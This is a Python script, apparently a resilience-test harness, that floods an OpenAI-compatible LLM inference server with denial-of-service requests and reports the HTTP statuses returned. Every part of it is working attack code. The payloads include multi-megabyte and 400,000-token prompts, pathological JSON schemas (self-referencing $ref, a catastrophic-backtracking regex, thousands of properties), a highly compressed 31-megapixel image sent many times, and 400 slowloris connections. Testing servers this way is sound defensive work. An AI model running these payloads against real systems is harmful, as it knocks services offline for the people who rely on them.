"""A client who means harm: python attacker.py HOST PORT REQUESTS_PER_SECOND SECONDS.

Sends its requests at a fixed rate, whatever the server answers, and prints one JSON object: how
often each kind of request got each status ("left" if it did not wait for one).
"""

import asyncio
import base64
import contextlib
import io
import json
import sys
import time
from collections import Counter, defaultdict
from dataclasses import dataclass

from PIL import Image

MIB = 2**20
NUM_SLOW = 400
CHAT, TEXT = "/v1/chat/completions", "/v1/completions"


@dataclass(frozen=True)
class Attack:
    """One request; leaves_s: when its client goes away, None if it waits for the answer."""

    name: str
    path: str
    body: bytes
    leaves_s: float | None = None


def chat(name, leaves_s=None, **fields):
    body = {"messages": [{"role": "user", "content": "hello"}], "max_tokens": 4, **fields}
    return Attack(name, CHAT, json.dumps(body).encode(), leaves_s)


def text(name, prompt, leaves_s=None, **fields):
    return Attack(name, TEXT, json.dumps({"prompt": prompt, **fields}).encode(), leaves_s)


def guided(name, schema):
    named = {"name": "answer", "schema": schema}
    return chat(name, response_format={"type": "json_schema", "json_schema": named})


def huge_png():
    """A data: URL of 31 megapixels in a few kilobytes."""
    file = io.BytesIO()
    Image.new("1", (6200, 5000)).save(file, "PNG")
    return "data:image/png;base64," + base64.b64encode(file.getvalue()).decode()


def attacks():
    properties = {f"property_{i}": {"type": "string"} for i in range(9500)}
    some = dict(list(properties.items())[:1000])
    image = {"type": "image_url", "image_url": {"url": huge_png()}}
    tiny = b'{"messages": [' + b"{}," * (MIB // 2) + b"{}]}"
    return [
        text("8 MiB prompt, leaves", "word " * (8 * MIB // 5), leaves_s=0.5),
        text("4 MiB prompt", "word " * (4 * MIB // 5)),
        text("prompt of tokens", [1] * 400_000),
        guided("9,500 properties", {"type": "object", "properties": properties}),
        guided("1,000 properties", {"type": "object", "properties": some}),
        guided("refers to itself", {"$ref": "#"}),
        guided("refers to itself twice", {"anyOf": [{"$ref": "#"}, {"$ref": "#"}]}),
        guided("1 MB const", {"const": "x" * 10**6}),
        guided("heavy pattern", {"type": "string", "pattern": "((a{1,90}){1,90}b{1,90}){1,90}"}),
        chat("16 huge images", messages=[{"role": "user", "content": [image] * 16}]),
        chat("one huge image", messages=[{"role": "user", "content": [image]}]),
        Attack("many tiny values", CHAT, tiny),
        text("long prompt, leaves", "word " * 12_000, leaves_s=0.2),
    ]


async def send(host, port, attack, statuses):
    outcome = "left"
    writer = None
    try:
        reader, writer = await asyncio.open_connection(host, port)
        head = f"POST {attack.path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        head += f"Content-Length: {len(attack.body)}\r\nConnection: close\r\n\r\n"
        async with asyncio.timeout(attack.leaves_s or 120):
            writer.write(head.encode() + attack.body)
            # A refusal may come before the body has gone out.
            answer = asyncio.ensure_future(reader.readline())
            with contextlib.suppress(ConnectionError):
                await writer.drain()
            outcome = (await answer).split()[1].decode()
    except (TimeoutError, ConnectionError, IndexError) as error:
        outcome = "left" if attack.leaves_s else type(error).__name__
    finally:
        statuses[attack.name][outcome] += 1
        if writer is not None:
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()


async def hold(host, port, seconds):
    """A connection whose headers never end; when the server closes it, another one comes."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with contextlib.suppress(ConnectionError, OSError):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(f"POST {CHAT} HTTP/1.1\r\nHost: {host}\r\n".encode())
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(0.0, until - time.monotonic())):
                    await reader.read()
            writer.close()
        await asyncio.sleep(1)


async def attack(host, port, rate, seconds):
    kinds, statuses = attacks(), defaultdict(Counter)
    print("ready", flush=True)
    slow = [asyncio.ensure_future(hold(host, port, seconds)) for _ in range(NUM_SLOW)]
    start_s = time.monotonic()
    sent = []
    for index in range(int(rate * seconds)):
        await asyncio.sleep(max(0.0, start_s + index / rate - time.monotonic()))
        kind = kinds[index % len(kinds)]
        sent.append(asyncio.ensure_future(send(host, port, kind, statuses)))
    await asyncio.gather(*sent, *slow)
    print(json.dumps(statuses), flush=True)


if __name__ == "__main__":
    host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), *map(float, sys.argv[3:])
    asyncio.run(attack(host, port, rate, seconds))
